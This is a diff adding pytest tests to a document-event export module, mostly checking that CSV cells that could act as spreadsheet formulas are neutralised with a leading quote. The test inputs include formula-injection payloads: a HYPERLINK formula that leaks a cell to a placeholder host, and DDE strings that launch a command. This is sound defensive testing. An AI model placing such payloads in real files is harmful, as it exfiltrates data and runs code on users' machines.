@@ -3,6 +3,8 @@ import csv
 import io
 import json
 
+import pytest
+
 from extract.exports import event_rows, render, to_csv, to_geojson, to_jsonl
 from tests.test_records import make_analysis
 
@@ -58,3 +60,28 @@ def test_csv_files_carry_a_bom_and_geonames_ids_are_integers():
     assert lines[0]["geonameid"] == "2044757"
     assert to_geojson(rows)["features"][0]["properties"]["geonameid"] == 2044757
     assert not render(rows, "geojson").startswith(b"\xef") and not render(rows, "jsonl").startswith(b"\xef")
+
+
+@pytest.mark.parametrize("column, value, written", [
+    ("document_title", '=HYPERLINK("http://example.invalid/?leak="&A1, "Click")',
+     '\'=HYPERLINK("http://example.invalid/?leak="&A1, "Click")'),
+    ("document_title", "+33 killed", "'+33 killed"),
+    ("sentence", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("date_text", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("sentence", "\t=1+1", "'\t=1+1"),
+    ("sentence", "\r=1+1", "'\r=1+1"),
+    ("document_title", "Talks in Cairo = progress", "Talks in Cairo = progress"),
+    ("document_title", "محادثات - القاهرة", "محادثات - القاهرة"),
+])
+def test_csv_cells_that_could_be_formulas_are_neutralised(column, value, written):
+    rows = event_rows(make_analysis())
+    rows[0][column] = value
+    line = next(csv.DictReader(io.StringIO(render(rows, "csv").decode("utf-8-sig"))))
+    assert line[column] == written
+
+
+def test_csv_keeps_negative_coordinates_as_numbers():
+    rows = event_rows(make_analysis())
+    rows[0]["places"][0].update(lat=-33.86, lon=-151.2)
+    line = next(csv.DictReader(io.StringIO(to_csv(rows))))
+    assert (line["lat"], line["lon"]) == ("-33.86", "-151.2")
